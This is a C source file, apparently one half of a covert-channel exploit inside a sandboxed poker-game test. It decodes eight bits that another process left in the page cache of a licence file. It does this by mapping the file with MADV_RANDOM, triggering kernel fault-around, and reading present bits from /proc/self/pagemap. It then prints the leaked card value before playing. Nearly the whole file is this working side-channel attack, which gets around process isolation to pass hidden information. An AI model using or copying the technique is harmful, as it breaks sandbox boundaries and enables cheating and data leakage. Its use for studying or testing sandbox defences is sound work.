/* pagemap_friend: reads what pagemap_spy.c left in the page cache of
 * /usr/share/common-licenses/GPL-3 with no call the sandbox denies: it maps
 * the file's first 9 pages without read-ahead (MADV_RANDOM) and touches
 * page 0; the kernel's fault-around then maps every neighbouring page that
 * is already cached, and nothing else, and /proc/self/pagemap's "present"
 * bit (bit 63, shown to unprivileged readers) tells which: page i + 1
 * present is bit i. Prints "LEAK: page cache: V/C" when some page was
 * cached, then plays round robin. */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>
#include "poker.h"

#define CHANNEL "/usr/share/common-licenses/GPL-3"
#define PAGE 4096

static void decode(void)
{
    int bits = 0, i, pagemap;
    volatile unsigned char sink;
    unsigned char *map;
    int fd = open(CHANNEL, O_RDONLY);
    if (fd < 0) { perror(CHANNEL); return; }
    map = mmap(NULL, 9 * PAGE, PROT_READ, MAP_SHARED, fd, 0);
    close(fd);
    if (map == MAP_FAILED) { perror("mmap"); return; }
    if (madvise(map, 9 * PAGE, MADV_RANDOM) != 0) { perror("madvise"); return; }
    sink = map[0];
    (void)sink;
    pagemap = open("/proc/self/pagemap", O_RDONLY);
    if (pagemap < 0) { perror("/proc/self/pagemap"); return; }
    for (i = 0; i < 8; i++) {
        uint64_t entry = 0;
        off_t at = (off_t)(((uintptr_t)map / PAGE + i + 1) * sizeof entry);
        if (pread(pagemap, &entry, sizeof entry, at) != sizeof entry) { perror("pagemap"); break; }
        if (entry >> 63) bits |= 1 << i;
    }
    close(pagemap);
    munmap(map, 9 * PAGE);
    if (bits) fprintf(stderr, "LEAK: page cache: %d/%d\n", bits / 16, bits % 16);
}

int main(void)
{
    int i, v, c;
    decode();
    p_startgame();
    for (i = 1; i <= 20; i++) { p_look(&v, &c); p_place((i - 1) % 4 + 1); }
    return 0;
}
